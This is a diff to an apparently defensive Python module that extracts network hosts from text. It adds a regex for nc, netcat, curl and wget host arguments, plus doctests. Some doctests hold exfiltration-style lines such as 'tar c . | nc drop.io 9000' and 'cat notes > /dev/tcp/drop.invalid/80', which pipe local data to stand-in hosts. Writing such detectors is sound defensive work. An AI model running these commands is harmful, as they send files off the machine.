@@ -39,6 +39,10 @@ _KEY_WORDS = (
     "Signature=", "sig=",
 )  # fmt: skip
 """A key that is written out holds one of them."""
+_ASKED = re.compile(
+    r"(?:^|[|;&(\s])(?:nc|ncat|netcat|telnet|curl|wget)\s(?:[^|;&\n]*[^|;&\n>@=\s]\s+)?(?<!-o\s)(?<!-O\s)(?<!-T\s)(?<!-F\s)(?<!-d\s)(?<!-K\s)(?<!put\s)\Z"
+)
+"""Up to where a command names the host that it asks; what follows is no file, whatever its ending."""
 _DEVICE = re.compile(r"/dev/(?:tcp|udp)/([\w.-]+)/(\d{1,5})")
 _NAMED = re.compile(
     r"(?:const|let|var|export const)?\s*[\w.]{0,40}(?:host|domain|server|endpoint|relay|address)\w{0,20}\s*[:=]\s*[\"']((?:[a-z0-9-]{1,63}\.)+[a-z]{2,12}|\d{1,3}(?:\.\d{1,3}){3}(?::\d{2,5})?)[\"']"
@@ -47,7 +51,7 @@ _NAMED = re.compile(
 )
 _PAIR = re.compile(
     r"[\"']((?:[a-z0-9-]{1,63}\.)+[a-z]{2,12}):\d{2,5}[\"']|\b(?:HTTPS?Connection|SMTP(?:_SSL)?|FTP(?:_TLS)?)\(\s*[\"']((?:[a-z0-9-]{1,63}\.)+[a-z]{2,12})[\"']|\b(?:host(?:name)?|server|broker)[\"']?\s*[:=]\s*[\"']((?:[a-z0-9-]{1,63}\.)+[a-z]{2,12})[\"']|[(\[]\s*[\"']((?:[a-z0-9-]{1,63}\.)+[a-z]{2,12})[\"']\s*,\s*\d{2,5}\s*[)\]]"
-    r"|[(,]\s*\d{2,5}\s*,\s*[\"']((?:[a-z0-9-]{1,63}\.)+[a-z]{2,12})[\"']|[\"'`](?:mqtts?|rediss?|amqps?|postgres(?:ql)?|mysql|mongodb(?:\+srv)?|nats|grpcs?|udp|ldaps?|smtps?|http2)://(?:[^@\s\"'`/]{0,80}@)?((?:[a-z0-9-]{1,63}\.)+[a-z]{2,12})",
+    r"|[(,]\s*\d{2,5}\s*,\s*[\"']((?:[a-z0-9-]{1,63}\.)+[a-z]{2,12})[\"']|\b(?:Strict)?Redis\(\s*[\"']((?:[a-z0-9-]{1,63}\.)+[a-z]{2,12})[\"']|[\"'`](?:mqtts?|rediss?|amqps?|postgres(?:ql)?|mysql|mongodb(?:\+srv)?|nats|grpcs?|udp|ldaps?|smtps?|http2)://(?:[^@\s\"'`/]{0,80}@)?((?:[a-z0-9-]{1,63}\.)+[a-z]{2,12})",
     re.I,
 )
 """A host and its port."""
@@ -180,6 +184,8 @@ def addresses_of(text: str) -> list[str]:
 
     >>> addresses_of("nc 203.0.113.9 4444"), addresses_of("cat notes > /dev/tcp/drop.invalid/80")
     (['203.0.113.9'], ['drop.invalid:80'])
+    >>> addresses_of("tar c . | nc drop.io 9000"), addresses_of("nc -l 9000 > notes.io")
+    (['drop.io'], [])
     >>> addresses_of("s.connect(('127.0.0.1', 80))")
     ['127.0.0.1']
     """
@@ -190,7 +196,8 @@ def addresses_of(text: str) -> list[str]:
     return urls + [
         found[0]
         for found in (_BARE.finditer(rest) if "." in rest else ())
-        if ("/" in found[0] or not found[0].lower().endswith(_FILE_ENDINGS)) and not _NAMESPACE.match(found[0])
+        if ("/" in found[0] or not found[0].lower().endswith(_FILE_ENDINGS) or _ASKED.search(rest, 0, found.start()))
+        and not _NAMESPACE.match(found[0])
     ]
 
 
